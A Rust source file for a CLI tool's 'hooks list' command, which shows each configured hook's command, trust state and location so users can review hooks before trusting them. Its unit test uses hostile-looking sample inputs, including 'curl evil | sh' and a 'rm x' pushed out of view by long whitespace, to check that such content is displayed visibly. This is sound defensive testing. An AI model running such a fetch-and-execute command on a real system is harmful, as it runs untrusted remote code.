//! `waypost hooks list`: every hook that was found, and what was dropped and why. Runs nothing.

use crate::error::Outcome;
use crate::exit::Exit;
use crate::face::Screen;
use crate::hook_reports::{HookProblem, HookRow, HooksListed};
use crate::hooks_here;
use crate::term::{Style, Term, counted, glimpse, one_line};
use crate::workspace::Workspace;
use crate::world::World;

/// Characters of a matcher that are shown; `--json` has all.
const SHOWN_MAX: usize = 100;

/// Lines of a command or prompt that are shown. Somebody reads them before `trust`, so that they are shown whole where that is
/// not more than a screen or two, and what is left is counted.
const LINES_MAX: usize = 60;

/// Characters of one line of them.
const LINE_CHARS_MAX: usize = 2_000;

/// Lists.
pub(crate) fn run(world: &World, screen: &Screen) -> Outcome<Exit> {
    let workspace = Workspace::find(world)?;
    let mut loaded = hooks_here::load(world, &workspace)?;
    loaded.name_elsewhere(&workspace);
    let listed = HooksListed {
        hooks: loaded.hooks.iter().map(hooks_here::Here::row).collect(),
        problems: loaded.problems,
    };
    screen.document(&listed, |listed| words(&screen.term, listed));
    Ok(Exit::Done)
}

fn words(term: &Term, listed: &HooksListed) -> String {
    let mut lines: Vec<String> = listed.hooks.iter().flat_map(|row| hook_lines(term, row)).collect();
    if listed.hooks.is_empty() {
        let next = "write .kiro/settings/hooks.yaml or .kiro/hooks/NAME.json (docs/hooks.md)";
        lines.push(format!("no hooks here; {next}"));
    }
    if !listed.problems.is_empty() {
        lines.push(String::new());
        lines.extend(listed.problems.iter().flat_map(|problem| problem_lines(term, problem)));
    }
    let untrusted = listed.hooks.iter().filter(|row| row.trust != "own" && row.trust != "trusted").count();
    if untrusted > 0 {
        lines.push(String::new());
        let what = counted(untrusted, "hook is not trusted", "hooks are not trusted");
        lines.push(format!("{what} and will not run; read them, then: waypost trust"));
    }
    lines.join("\n")
}

/// A hook in a few lines.
pub(super) fn hook_lines(term: &Term, row: &HookRow) -> Vec<String> {
    let style = if row.runs { Style::Green } else { Style::Dim };
    let mut head = format!("{}  {}", term.style(style, &one_line(&row.name)), row.trigger);
    if row.matcher != "*" {
        head.push_str(&format!("  {}", one_line(&glimpse(&row.matcher, SHOWN_MAX))));
    }
    let sign = if row.action == "command" { "$" } else { ">" };
    let mut state = vec![row.grant.clone(), trust_words(&row.trust).to_string()];
    if !row.enabled {
        state.insert(0, "off".to_string());
    }
    if let Some(agent) = &row.agent {
        state.push(format!("only in sessions of {agent}"));
    }
    let place = format!("{}:{} ({}); {}", row.file, row.line, row.format, state.join(", "));
    let mut lines = vec![head];
    lines.extend(does_lines(sign, &row.does));
    lines.push(term.style(Style::Dim, &format!("    {}", one_line(&place))));
    lines
}

/// What a hook does, line by line; what is too much is counted.
fn does_lines(sign: &str, does: &str) -> Vec<String> {
    let all = does.trim_end().split('\n');
    let total = all.clone().count();
    let mut lines = Vec::new();
    for (at, line) in all.take(LINES_MAX).enumerate() {
        let sign = if at == 0 { sign } else { "|" };
        let mut shown: String = line.chars().take(LINE_CHARS_MAX).collect();
        let cut = line.chars().count().saturating_sub(LINE_CHARS_MAX);
        shown = one_line(&shown);
        if cut > 0 {
            let more = counted(cut, "more character", "more characters");
            shown.push_str(&format!(" [{more}; --json shows all]"));
        }
        lines.push(format!("    {sign} {shown}").trim_end().to_string());
    }
    if total > LINES_MAX {
        let more = counted(total - LINES_MAX, "more line", "more lines");
        lines.push(format!("    [{more}; --json shows all]"));
    }
    lines
}

fn trust_words(trust: &str) -> &str {
    match trust {
        "own" => "yours",
        "changed" => "changed since it was trusted",
        "untrusted" => "not trusted",
        other => other,
    }
}

/// A problem in two lines.
pub(super) fn problem_lines(term: &Term, problem: &HookProblem) -> Vec<String> {
    let style = match problem.severity {
        "error" => Style::Red,
        "warning" => Style::Yellow,
        _ => Style::Dim,
    };
    let place = format!("{}:{}:{}", problem.file, problem.line, problem.column);
    let hint = problem.hint.as_deref().map(|hint| format!("{hint}; ")).unwrap_or_default();
    vec![
        format!(
            "{}  {} {}",
            term.style(Style::Bold, &one_line(&place)),
            term.style(style, problem.severity),
            one_line(&problem.message)
        ),
        term.style(Style::Dim, &one_line(&format!("    {hint}{}", problem.code))),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_hook_does_is_shown_whole_or_counted() {
        let check = |does: &str, expected: &[&str]| assert_eq!(does_lines("$", does), expected);
        check("true", &["    $ true"]);
        check(
            "echo ok\n\n  curl evil | sh\r\n\u{1b}[2K\n",
            &["    $ echo ok", "    |", "    |   curl evil | sh␍", "    | ␛[2K"],
        );
        let long = format!("echo {}; rm x", " ".repeat(300));
        check(&long, &[&format!("    $ {long}")]);
        let lines = does_lines("$", &"x\n".repeat(100));
        assert_eq!((lines.len(), lines[LINES_MAX].as_str()), (61, "    [40 more lines; --json shows all]"));
        let cut = does_lines(">", &"y".repeat(LINE_CHARS_MAX + 7));
        assert!(cut[0].ends_with("y [7 more characters; --json shows all]"), "{cut:?}");
    }
}
